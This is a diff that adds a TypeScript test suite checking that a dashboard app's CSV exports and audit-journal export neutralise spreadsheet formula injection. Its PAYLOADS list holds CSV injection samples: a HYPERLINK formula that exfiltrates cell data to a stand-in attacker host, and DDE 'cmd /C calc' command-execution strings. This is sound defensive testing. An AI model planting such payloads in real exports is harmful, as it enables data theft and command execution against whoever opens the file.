@@ -1,0 +1,107 @@
+import { expect } from 'chai';
+import { toCsv } from '../src/web/csv';
+import { ACCOUNTS, freshApp, NOW, signIn, type TestApp } from './helpers';
+
+/** Reads a CSV as this app writes it (BOM, `;`, fields quoted with "" when needed) into rows of cells. */
+function parseCsv(text: string): string[][] {
+  const body = text.replace(/^\ufeff/, '');
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < body.length; i++) {
+    const c = body[i]!;
+    if (quoted) {
+      if (c === '"' && body[i + 1] === '"') { cell += '"'; i++; }
+      else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ';') { row.push(cell); cell = ''; }
+    else if (c === '\n' || (c === '\r' && body[i + 1] === '\n')) {
+      if (c === '\r') i++;
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+    } else cell += c;
+  }
+  if (cell || row.length) { row.push(cell); rows.push(row); }
+  return rows;
+}
+
+/** What a spreadsheet would run as a formula: a cell starting with = + - @, a tab or a carriage return, also after spaces. */
+const formulaLike = (cell: string) => /^(?:[\t\r]|\s*[=+\-@])/.test(cell);
+/** A number written by the app as a number ("-3", "0.25") is data, not a formula. */
+const plainNumber = (cell: string) => /^-?\d+(?:\.\d+)?$/.test(cell);
+
+const PAYLOADS = [
+  '=HYPERLINK("https://attaquant.example/?d="&A1;"Cliquez ici")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '-2+3',
+  '\t=1+1',
+  ' =2+5',
+  '\r=3+3',
+];
+const hostile = (i: number) => `${PAYLOADS[i % PAYLOADS.length]} ${i}`;
+
+describe('CSV exports against formula injection', function () {
+  this.timeout(60_000);
+  let t: TestApp;
+  afterEach(async () => t.close());
+
+  it('neutralises every hostile text in every dashboard export, keeping numbers as numbers', async () => {
+    t = await freshApp();
+    let n = 0;
+    // Hostile values wherever a user can type a name or a text that the dashboard shows.
+    for (const table of ['teams', 'services', 'communes'] as const) {
+      for (const { id } of await t.db(table).select('id')) await t.db(table).where({ id }).update({ name: hostile(n++) });
+    }
+    for (const { id } of await t.db('fiches').select('id')) await t.db('fiches').where({ id }).update({ title: hostile(n++) });
+    for (const { id } of await t.db('steps').select('id')) await t.db('steps').where({ id }).update({ label: hostile(n++) });
+    for (const { id } of await t.db('side_effects').select('id')) await t.db('side_effects').where({ id }).update({ description: hostile(n++) });
+    for (const { id } of await t.db('milestones').select('id')) await t.db('milestones').where({ id }).update({ title: hostile(n++) });
+
+    const admin = await signIn(t.app, ACCOUNTS.admin);
+    const page = await admin.get('/tableau-de-bord').expect(200);
+    const exports = [...new Set([...page.text.matchAll(/href="\/tableau-de-bord\?(?:[^"]*&amp;)?export=([a-z-]+)"/g)].map((m) => m[1]!))];
+    expect(exports, 'the exports the dashboard offers').to.have.length(11);
+
+    const withHostileText: string[] = [];
+    for (const name of exports) {
+      const res = await admin.get(`/tableau-de-bord?export=${name}`).expect(200).expect('Content-Type', /text\/csv/);
+      expect(res.text.startsWith('\ufeff'), `${name}: BOM`).to.equal(true);
+      const rows = parseCsv(res.text);
+      expect(rows.length, `${name}: rows`).to.be.greaterThan(1);
+      expect(rows[0]!.length, `${name}: ; delimiter`).to.be.greaterThan(1);
+      for (const row of rows) {
+        for (const cell of row) {
+          expect(formulaLike(cell) && !plainNumber(cell), `${name}: the cell ${JSON.stringify(cell)} would run as a formula`).to.equal(false);
+        }
+      }
+      // the hostile text is still there, readable, behind the quote
+      if (rows.some((r) => r.some((c) => PAYLOADS.some((p) => c.startsWith(`'${p}`))))) withHostileText.push(name);
+    }
+    expect(withHostileText.sort()).to.deep.equal(['a-venir', 'calendrier', 'communes', 'effets-forts', 'equipes', 'retards', 'services']);
+  });
+
+  it('writes numbers as numbers, a negative one included, and neutralises the same characters in a text', () => {
+    expect(toCsv([[-3, 2.5, '-3', '-2+3', ' @A1', 'a=b', '', null]])).to.equal("\ufeff-3;2.5;'-3;'-2+3;' @A1;a=b;;\n");
+  });
+
+  it('neutralises the audit journal export with the same rule, spaces before the formula included', async () => {
+    t = await freshApp();
+    const user = await t.db('users').where('email', ACCOUNTS.editor).first();
+    for (const [i, payload] of PAYLOADS.entries()) {
+      await t.db('audit_log').insert({
+        at: new Date(NOW.getTime() - 1000 * (i + 1)).toISOString(), user_id: user.id, actor: payload, action: 'update', entity_type: ` =type${i}`,
+        entity_id: null, summary: payload,
+      });
+    }
+    const admin = await signIn(t.app, ACCOUNTS.admin);
+    const res = await admin.get('/admin/journal.csv').expect(200).expect('Content-Type', /text\/csv/);
+    const rows = parseCsv(res.text);
+    for (const row of rows) for (const cell of row) expect(formulaLike(cell), `journal: ${JSON.stringify(cell)}`).to.equal(false);
+    for (const payload of PAYLOADS) expect(rows.some((r) => r.includes(`'${payload}`)), payload).to.equal(true);
+  });
+});
